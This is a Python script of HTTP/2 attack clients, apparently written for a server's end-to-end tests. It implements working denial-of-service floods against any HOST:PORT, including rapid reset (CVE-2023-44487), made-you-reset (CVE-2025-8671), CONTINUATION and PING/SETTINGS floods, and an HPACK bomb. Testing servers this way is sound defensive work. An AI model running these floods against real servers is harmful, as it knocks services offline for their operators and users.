#!/usr/bin/env python3
"""HTTP/2 attack clients for the end-to-end tests (tests/tests/h2_attacks.rs).

Each attack speaks prior-knowledge h2c to HOST:PORT with frames built by hyperframe and header
blocks encoded by hpack (the libraries under Python's `h2`), loops its abuse until the server
closes the connection or sends GOAWAY (or a bound of its own passes), and prints one JSON line:

  {"attack": ..., "units": N, "bytes_sent": B, "goaway": {"error_code": E, "last_stream_id": S,
   "debug": "..."} | null, "closed": true|false, "seconds": T, "frames_received": {...},
   "statuses": {"200": n, ...}, "blocked": true|false, "cpu_seconds": C}

`blocked` says a write timed out (with --no-read: the server stopped reading); `cpu_seconds`
is the CPU this client spent. With --repeat, a new connection follows each stopped one, each
with its line.

`units` counts what the attack repeats (resets, streams, frames), as written to the socket
before the server stopped it; the server's GOAWAY last_stream_id says how far it got.

Attacks:
  rapid-reset       HEADERS then RST_STREAM(CANCEL) on each new stream (CVE-2023-44487)
  made-you-reset    a stream then a frame the server must reset it for (CVE-2025-8671):
                    --variant window (WINDOW_UPDATE 0), data (DATA after END_STREAM),
                    overflow (stream window past 2^31-1), length (body over content-length),
                    both (overflow and length in turn)
  continuation      one HEADERS without END_HEADERS, then CONTINUATION frames forever
  hpack-bomb        one large header in the dynamic table, then header blocks that reference it
                    again and again (1 byte per reference)
  cookie-crumbs     50 requests with --crumbs cookie fields of --size bytes (--same: all alike,
                    so HPACK sends one and indexes the rest)
  empty-data        a request stream then DATA frames with no payload forever
  request           one request with the headers and body given (--header, --body)
  ping              PING frames forever
  settings          SETTINGS frames forever
"""

import argparse
import codecs
import json
import socket
import sys
import threading
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


class Conn:
    """A client connection: writes frames, and a reader thread that records what comes back."""

    def __init__(self, host, port, authority, deadline, read=True):
        self.sock = socket.create_connection((host, port), timeout=10)
        # Without a reader, a write the server no longer drains times out: the server has
        # stopped reading (backpressure), which is what the report's `blocked` says.
        self.sock.settimeout(None if read else 3)
        self.blocked = False
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = authority
        self.deadline = deadline
        self.encoder = hpack.Encoder()
        self.bytes_sent = 0
        self.goaway = None
        self.closed = False
        self.close_error = None
        self.received = {}
        self.statuses = {}
        # Per stream: its :status, or the error code of its RST_STREAM.
        self.stream_statuses = {}
        self.stream_resets = {}
        self.decoder = hpack.Decoder()
        self.decoder.max_header_list_size = 1 << 20
        self.lock = threading.Lock()
        self.send_raw(PREFACE)
        # A large window: the server's responses never wait on this client.
        self.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: (1 << 31) - 1}))
        self.send(WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535))
        if read:
            threading.Thread(target=self.read_loop, daemon=True).start()

    def stopped(self):
        return self.closed or self.goaway is not None or time.monotonic() > self.deadline

    def send_raw(self, data):
        with self.lock:
            self.sock.sendall(data)
            self.bytes_sent += len(data)

    def send(self, *frames):
        self.send_raw(b"".join(f.serialize() for f in frames))

    def headers(self, stream_id, path, end_stream=True, extra=(), end_headers=True, path_at=0,
                never_index=False):
        """`path_at`: 0 puts `:path` with the other pseudo-headers, 1 after the regular
        headers (malformed), -1 leaves it out (malformed). `never_index`: no entry in the
        dynamic table, so a header block the server refuses cannot leave the two tables
        apart and garble the next stream's headers."""
        pseudo = [
            (":method", "GET" if end_stream else "POST"),
            (":scheme", "http"),
            (":authority", self.authority),
        ]
        first = [(":path", path)] if path_at == 0 else []
        last = [(":path", path)] if path_at == 1 else []
        block = self.encoder.encode(
            [(n, v, never_index) for n, v in pseudo + first + list(extra) + last]
        )
        # Split at the default SETTINGS_MAX_FRAME_SIZE: HEADERS, then CONTINUATION frames.
        limit = 16384
        chunks = [block[i : i + limit] for i in range(0, len(block), limit)] or [b""]
        frames = [HeadersFrame(stream_id, data=chunks[0])]
        frames += [ContinuationFrame(stream_id, data=c) for c in chunks[1:]]
        if end_stream:
            frames[0].flags.add("END_STREAM")
        if end_headers:
            frames[-1].flags.add("END_HEADERS")
        return frames

    def read_loop(self):
        buf = b""
        while True:
            try:
                chunk = self.sock.recv(65536)
            except OSError as e:
                # ECONNRESET: the server closed with unread bytes or an abortive close.
                self.close_error = type(e).__name__
                chunk = b""
            if not chunk:
                self.closed = True
                return
            buf += chunk
            while len(buf) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
                if len(buf) < 9 + length:
                    break
                frame.parse_body(memoryview(buf[9 : 9 + length]))
                buf = buf[9 + length :]
                name = type(frame).__name__
                self.received[name] = self.received.get(name, 0) + 1
                if isinstance(frame, RstStreamFrame):
                    self.stream_resets[str(frame.stream_id)] = frame.error_code
                if isinstance(frame, GoAwayFrame):
                    self.goaway = {
                        "error_code": frame.error_code,
                        "last_stream_id": frame.last_stream_id,
                        "debug": frame.additional_data.decode("latin-1"),
                    }
                elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    try:
                        self.send(SettingsFrame(0, flags=["ACK"]))
                    except OSError:
                        pass
                elif isinstance(frame, HeadersFrame):
                    try:
                        for name, value in self.decoder.decode(frame.data):
                            if name in (b":status", ":status"):
                                key = value.decode() if isinstance(value, bytes) else value
                                self.statuses[key] = self.statuses.get(key, 0) + 1
                                self.stream_statuses[str(frame.stream_id)] = int(key)
                    except Exception:  # noqa: BLE001 - a CONTINUATION split; not needed here
                        pass

    def finish(self, attack, units, started):
        # Give the server a moment to say why it stopped, then report.
        end = time.monotonic() + 2
        while not self.closed and time.monotonic() < end:
            if self.goaway is not None:
                time.sleep(0.2)
                break
            time.sleep(0.02)
        print(
            json.dumps(
                {
                    "attack": attack,
                    "units": units,
                    "bytes_sent": self.bytes_sent,
                    "goaway": self.goaway,
                    "closed": self.closed,
                    "close_error": self.close_error,
                    "seconds": round(time.monotonic() - started, 3),
                    "frames_received": self.received,
                    "statuses": self.statuses,
                    "stream_statuses": self.stream_statuses,
                    "stream_resets": self.stream_resets,
                    "blocked": self.blocked,
                    "cpu_seconds": round(time.process_time(), 3),
                }
            ),
            flush=True,
        )


def loop(conn, batch, step):
    """Send `step(i)`'s frames in batches until the server stops us; returns units sent."""
    units = 0
    try:
        while not conn.stopped():
            frames = []
            for _ in range(batch):
                frames.extend(step(units))
                units += 1
            conn.send(*frames)
    except socket.timeout:
        conn.blocked = True
    except OSError:
        pass
    return units


def rapid_reset(conn, path, spacing):
    if spacing > 0:
        # Each reset after the server has had time to start the request upstream.
        units = 0
        try:
            while not conn.stopped():
                sid = 2 * units + 1
                conn.send(*conn.headers(sid, path))
                time.sleep(spacing)
                conn.send(RstStreamFrame(sid, error_code=CANCEL))
                units += 1
        except OSError:
            pass
        return units

    def step(i):
        sid = 2 * i + 1
        return conn.headers(sid, path) + [RstStreamFrame(sid, error_code=CANCEL)]

    return loop(conn, 50, step)


def made_you_reset(conn, path, spacing, variant):
    """Frames the server must answer with a reset of the stream, after a request that is on its
    way upstream. RFC 9113 makes the first two stream errors; h2 ends the whole connection for
    them (PROTOCOL_ERROR). The next two are stream errors in h2 too. `header`: a request
    malformed by a connection-specific header (RFC 9113 8.2.2), which h2 resets before any
    request exists, so nothing goes upstream."""
    variants = {
        "both": ["overflow", "length"],
        "window": ["window"],
        "data": ["data"],
        "overflow": ["overflow"],
        "length": ["length"],
        "header": ["header"],
    }[variant]

    def step(i):
        sid = 2 * i + 1
        kind = variants[i % len(variants)]
        if kind == "window":
            # A zero WINDOW_UPDATE on an open stream (RFC 9113 6.9).
            return conn.headers(sid, path, end_stream=False) + [
                WindowUpdateFrame(sid, window_increment=0)
            ]
        if kind == "header":
            # Never indexed, so the refused block leaves the HPACK tables alike.
            return conn.headers(sid, path, extra=[("connection", "keep-alive")], never_index=True)
        if kind == "data":
            # DATA after END_STREAM: STREAM_CLOSED (RFC 9113 5.1).
            return conn.headers(sid, path) + [DataFrame(sid, data=b"x")]
        if kind == "overflow":
            # The stream's send window is already 2^31-1 (this client's SETTINGS): one more
            # byte overflows it, FLOW_CONTROL_ERROR on the stream (RFC 9113 6.9.1).
            return conn.headers(sid, path, end_stream=False) + [
                WindowUpdateFrame(sid, window_increment=1)
            ]
        # More DATA than the request's content-length: malformed (RFC 9113 8.1.1).
        frames = conn.headers(sid, path, end_stream=False, extra=[("content-length", "1")])
        return frames + [DataFrame(sid, data=b"xx", flags=["END_STREAM"])]

    if spacing > 0:
        # Each stream's request on its way upstream before the frame that gets it reset.
        units = 0
        try:
            while not conn.stopped():
                frames = step(units)
                conn.send(*frames[:-1])
                time.sleep(spacing)
                conn.send(frames[-1])
                units += 1
        except OSError:
            pass
        return units
    return loop(conn, 20, step)


def continuation(conn, path):
    conn.send(*conn.headers(1, path, end_headers=False))
    # Fresh literal headers, never indexed: each frame is a new 1 KiB header for the server to
    # decode and hold.
    def step(i):
        block = hpack.Encoder().encode([("x-flood-%d" % i, "v" * 1000, True)])
        return [ContinuationFrame(1, data=block)]

    return loop(conn, 16, step)


def hpack_bomb(conn, path):
    big = ("x-bomb", "b" * 4000)
    units = 0
    sid = 1
    try:
        while not conn.stopped():
            # The first block puts the header in the dynamic table; the encoder then sends
            # each repetition as a one-byte index.
            conn.send(*conn.headers(sid, path, extra=[big] * 1000))
            units += 1
            sid += 2
    except OSError:
        pass
    return units


def cookie_crumbs(conn, path, crumbs, size, same):
    units = 0
    sid = 1
    try:
        while not conn.stopped() and units < 50:
            # With `same`, every crumb is the same: HPACK sends it once and then as a one-byte
            # index, so the joined cookie is many times what crossed the wire.
            extra = [("cookie", "c%d=%s" % (0 if same else i, "k" * size)) for i in range(crumbs)]
            conn.send(*conn.headers(sid, path, extra=extra))
            units += 1
            sid += 2
            time.sleep(0.01)
    except OSError:
        pass
    return units


def one_request(conn, path, headers, body, end_after, path_at=0, then=None):
    """One request with headers as given (any bytes: hpack encodes what h2 clients refuse to
    send), a body, and nothing after; the report says how the server answered. With `then`,
    a well-formed GET of that path follows on stream 3 once the first is answered, to see
    whether the connection outlived the first stream."""
    extra = []
    for h in headers:
        name, value = h.split(":", 1)
        extra.append((name, codecs.decode(value, "unicode_escape")))
    frames = conn.headers(
        1, path, end_stream=body is None, extra=extra, path_at=path_at, never_index=True
    )
    if body is not None:
        frames.append(DataFrame(1, data=body.encode(), flags=["END_STREAM"]))
    conn.send(*frames)
    end = time.monotonic() + end_after
    while time.monotonic() < end and not conn.stopped() and not conn.statuses and not conn.received.get("RstStreamFrame"):
        time.sleep(0.02)
    time.sleep(0.2)
    if then is None or conn.stopped():
        return 1
    try:
        conn.send(*conn.headers(3, then, never_index=True))
    except OSError:
        return 1
    end = time.monotonic() + end_after
    while time.monotonic() < end and not conn.closed and "3" not in conn.stream_statuses and "3" not in conn.stream_resets:
        time.sleep(0.02)
    return 2


def empty_data(conn, path):
    conn.send(*conn.headers(1, path, end_stream=False))
    return loop(conn, 100, lambda i: [DataFrame(1, data=b"")])


def ping(conn):
    return loop(conn, 100, lambda i: [PingFrame(0, opaque_data=i.to_bytes(8, "big"))])


def settings(conn):
    return loop(
        conn, 100, lambda i: [SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})]
    )


def run(attack, host, port, authority, deadline, args):
    started = time.monotonic()
    conn = Conn(host, port, authority, deadline, read=not args.no_read)
    path = "/hang"
    if attack == "rapid-reset":
        units = rapid_reset(conn, path, args.spacing)
    elif attack == "made-you-reset":
        units = made_you_reset(conn, path, args.spacing, args.variant)
    elif attack == "continuation":
        units = continuation(conn, path)
    elif attack == "hpack-bomb":
        units = hpack_bomb(conn, "/bomb")
    elif attack == "cookie-crumbs":
        units = cookie_crumbs(conn, "/cookies", args.crumbs, args.size, args.same)
    elif attack == "request":
        path_at = {"first": 0, "last": 1, "none": -1}[args.path_at]
        units = one_request(conn, args.path, args.header, args.body, 5, path_at, args.then)
    elif attack == "empty-data":
        units = empty_data(conn, path)
    elif attack == "ping":
        units = ping(conn)
    elif attack == "settings":
        units = settings(conn)
    else:
        sys.exit("unknown attack: " + attack)
    conn.finish(attack, units, started)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("attack")
    parser.add_argument("target", help="HOST:PORT")
    parser.add_argument("seconds", type=float, help="bound on the whole run")
    parser.add_argument(
        "--repeat", action="store_true", help="a new connection each time one is stopped"
    )
    parser.add_argument(
        "--spacing", type=float, default=0.0, help="rapid-reset, made-you-reset: seconds between a request and its reset"
    )
    parser.add_argument(
        "--variant",
        choices=["window", "data", "overflow", "length", "both", "header"],
        default="both",
        help="made-you-reset: which frame gets the stream reset (both: overflow and length in turn; header: a malformed request)",
    )
    parser.add_argument(
        "--no-read", action="store_true", help="never read what the server sends"
    )
    parser.add_argument("--path", default="/a", help="request: the path")
    parser.add_argument(
        "--header", action="append", default=[], help="request: NAME:VALUE, with escapes"
    )
    parser.add_argument("--body", help="request: a body (DATA with END_STREAM)")
    parser.add_argument(
        "--path-at",
        choices=["first", "last", "none"],
        default="first",
        help="request: :path with the pseudo-headers, after the regular ones, or left out",
    )
    parser.add_argument(
        "--then", help="request: a well-formed GET of this path on stream 3 afterwards"
    )
    parser.add_argument("--same", action="store_true", help="cookie-crumbs: all alike")
    parser.add_argument("--crumbs", type=int, default=200)
    parser.add_argument("--size", type=int, default=100)
    args = parser.parse_args()
    host, port = args.target.rsplit(":", 1)
    deadline = time.monotonic() + args.seconds
    while True:
        run(args.attack, host, int(port), args.target, deadline, args)
        if not args.repeat or time.monotonic() > deadline:
            break


if __name__ == "__main__":
    main()
